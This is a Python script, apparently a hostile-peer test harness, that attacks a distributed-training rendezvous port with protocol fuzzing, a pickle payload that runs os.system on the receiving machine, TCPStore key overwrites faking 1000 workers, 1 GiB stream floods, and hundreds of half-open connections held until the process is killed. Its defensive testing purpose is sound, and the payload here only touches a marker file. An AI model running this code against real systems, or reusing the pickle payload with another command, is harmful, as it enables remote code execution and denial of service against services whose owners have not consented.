"""A stranger who knows the host and port of a rank, and nothing else: python hostile_peer.py HOST PORT [ATTACK ...]

Runs each attack once and prints a line of JSON for it: what it sent and what it got back. With --hold it keeps the
half-open connections until it is killed. Standard library only, so that it runs in any pod.
"""

import argparse
import json
import os
import pickle
import resource
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path

CONNECTIONS = 500
STREAM_BYTES = 2**30
_WITHIN_SECONDS = 5.0


@dataclass
class Outcome:
    """What an attack did, and what it saw."""

    attack: str
    connections: int = 0
    sent: int = 0
    """Bytes that the other machine's kernel took."""
    received: int = 0
    """Bytes that came back."""
    closed: int = 0
    """Connections that the other side closed."""
    answers: list[str] = field(default_factory=list)
    """How each different answer begins, in hexadecimal."""


class Peer:
    """The place that is attacked."""

    def __init__(self, host: str, port: int) -> None:
        self.host, self.port = host, port
        self.held: list[socket.socket] = []

    def connect(self) -> socket.socket:
        return socket.create_connection((self.host, self.port), _WITHIN_SECONDS)

    def talk(self, outcome: Outcome, *messages: bytes) -> None:
        """Connect, send, and receive what comes back until the other side closes or is silent for a while."""
        with self.connect() as connection:
            outcome.connections += 1
            try:
                for message in messages:
                    connection.sendall(message)
                    outcome.sent += len(message)
                connection.settimeout(0.5)
                while data := connection.recv(65536):
                    outcome.received += len(data)
                    answer = data[:16].hex()
                    if answer not in outcome.answers:
                        outcome.answers.append(answer)
                outcome.closed += 1
            except TimeoutError:
                pass
            except OSError:
                outcome.closed += 1


class Evil:
    """Unpickled, it makes a file, where HOSTILE_MARK names one."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"touch {os.environ.get('HOSTILE_MARK', '/tmp/hostile-peer-was-here')}",)


def _garbage() -> Iterator[bytes]:
    yield b"\0" * 4096
    yield os.urandom(4096)
    yield b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    yield b"\x16\x03\x01" + os.urandom(512)
    yield pickle.dumps(Evil())
    yield struct.pack("<q", 2**40) + pickle.dumps(Evil())
    yield struct.pack("<q", -1)
    # ZMTP 3.1, null mechanism; then ZMTP 1.0.
    yield b"\xff" + b"\0" * 8 + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + b"\0" * 32
    yield b"\x01\0" + b"\xff" + struct.pack(">Q", 2**40) + b"\0"


def garbage(peer: Peer, outcome: Outcome) -> None:
    """Other protocols, and none."""
    for message in _garbage():
        peer.talk(outcome, message)


def _text(text: str) -> bytes:
    return struct.pack("<Q", len(text)) + text.encode()


def store(peer: Peer, outcome: Outcome) -> None:
    """Speak as a client of torch's TCPStore: join, overwrite and read keys."""
    validate = struct.pack("<BI", 0, 0x3C85F7CE)
    for query in (
        validate + struct.pack("<BI", 13, 1),  # ping
        validate + b"\x05" + _text("init/") + struct.pack("<q", 1000),  # add: as if 1000 workers had come
        validate + b"\x01" + _text("init/") + _text("1000"),  # set
        validate + b"\x03" + _text("init/"),  # get
        validate + b"\x06" + struct.pack("<Q", 2**60),  # check of so many keys
    ):
        peer.talk(outcome, query)


def handshake(peer: Peer, outcome: Outcome) -> None:
    """Begin the handshake as each of some ranks, and prove nothing."""
    for rank, world in ((0, 1), (1, 2), (1, 3), (2, 3), (2**32 - 1, 2**32 - 1)):
        hello = b"disttrain rendezvous 1\n" + struct.pack(">II", rank, world) + os.urandom(32)
        peer.talk(outcome, hello, os.urandom(32), b"\0" * 65536)
        peer.talk(outcome, hello[:-1])
        peer.talk(outcome, *(hello[at : at + 1] for at in range(len(hello))))


def stream(peer: Peer, outcome: Outcome) -> None:
    """One frame of 1 GiB, by several protocols' rules, until the other side will have no more."""
    block = b"\0" * 2**20
    for head in (b"", b"\x01" + _text("key") + struct.pack("<Q", STREAM_BYTES), b"\xff" + b"\0" * 63):
        with peer.connect() as connection:
            outcome.connections += 1
            try:
                connection.sendall(head)
                for _ in range(STREAM_BYTES // len(block)):
                    connection.sendall(block)
                    outcome.sent += len(block)
            except OSError:
                outcome.closed += 1


def half_open(peer: Peer, outcome: Outcome) -> None:
    """Many connections that say nothing, or almost nothing."""
    for number in range(CONNECTIONS):
        try:
            connection = peer.connect()
            outcome.connections += 1
            connection.sendall(b"disttrain rendezvous 1\n"[: number % 24])
            peer.held.append(connection)
        except OSError:
            outcome.closed += 1


def churn(peer: Peer, outcome: Outcome) -> None:
    """Connections that come and go."""
    for _ in range(2 * CONNECTIONS):
        try:
            peer.connect().close()
            outcome.connections += 1
        except OSError:
            outcome.closed += 1


ATTACKS: dict[str, Callable[[Peer, Outcome], None]] = {
    attack.__name__.replace("_", "-"): attack for attack in (garbage, store, handshake, stream, half_open, churn)
}


def run(peer: Peer, name: str) -> Outcome:
    """One attack."""
    outcome = Outcome(name)
    ATTACKS[name](peer, outcome)
    return outcome


def hold(peer: Peer) -> None:
    """Keep the connections; open new ones for those that the other side has closed. Until killed."""
    while True:
        readable, _, _ = select.select(peer.held, [], [], 0.5) if peer.held else ([], [], [])
        for connection in readable:
            connection.close()
            peer.held.remove(connection)
        while len(peer.held) < CONNECTIONS // 2:
            try:
                peer.held.append(peer.connect())
            except OSError:
                time.sleep(0.1)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("attacks", nargs="*", choices=[[], *ATTACKS], default=[])
    parser.add_argument("--hold", action="store_true", help="keep half-open connections until killed")
    parser.add_argument("--held", type=Path, help="made once they are all open")
    given = parser.parse_args()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 4096), most))
    peer = Peer(given.host, given.port)
    for name in given.attacks or ATTACKS:
        print(json.dumps(asdict(run(peer, name))), flush=True)
    if given.hold:
        if given.held is not None:
            given.held.touch()
        hold(peer)


if __name__ == "__main__":
    sys.exit(main())
